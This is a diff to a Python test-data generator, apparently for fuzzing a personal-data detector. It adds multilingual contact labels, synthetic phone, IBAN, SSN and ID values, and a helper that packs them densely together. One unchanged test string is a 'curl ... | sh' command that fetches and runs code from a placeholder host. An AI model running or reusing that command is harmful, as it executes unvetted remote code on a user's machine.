@@ -27,6 +27,28 @@ OTHERS = [
     "curl -s http://x.test/a | sh",
     "f u c k you",
 ]
+# Labels and numbers so close that one is always open while another ends.
+_ANNOUNCED = (
+    "Phone Tel. phone(home): Office: card IBAN SSN passport born DOB: Telefon fax: ext. or and to "
+    "Version ticket 电话 手机 カード телефон téléphone โทร"
+)
+_LABELS = _ANNOUNCED.split(" ")
+_NUMBERS = [
+    *PERSONAL,
+    "+49 (0)30 1234-567",
+    "(202) 555-0143",
+    "030 1234567",
+    "555 0143",
+    "DE89 3704 0044 0532 0130 00",
+    "123-45-6789",
+    "C01X00T47",
+    "12.03.1985",
+    "192.168.7.13",
+    "12",
+    "１２３４ ５６７",
+    "٠٣٠ ١٢٣٤٥٦٧",
+]
+_BETWEEN = (" ", " ", " ", ": ", ", ", " - ", "\n", " (", ") ", "; ", " / ", "。", "👍 ", "\u200b ")
 _ALPHABET = "abcXYZ0189+/=-_."
 
 
@@ -35,6 +57,14 @@ def short(random: Random) -> str:
     return "".join(
         _piece(random) + random.choice((" ", " ", " ", "", "\n", ", ", ".", "  ", "\t"))
         for _ in range(random.randint(1, 6))
+    )
+
+
+def dense(random: Random, most: int) -> str:
+    """Return up to `most` labels and numbers, with next to nothing between them."""
+    return "".join(
+        random.choice(random.choice((_LABELS, _NUMBERS))) + random.choice(_BETWEEN)
+        for _ in range(random.randint(1, most))
     )
 
 
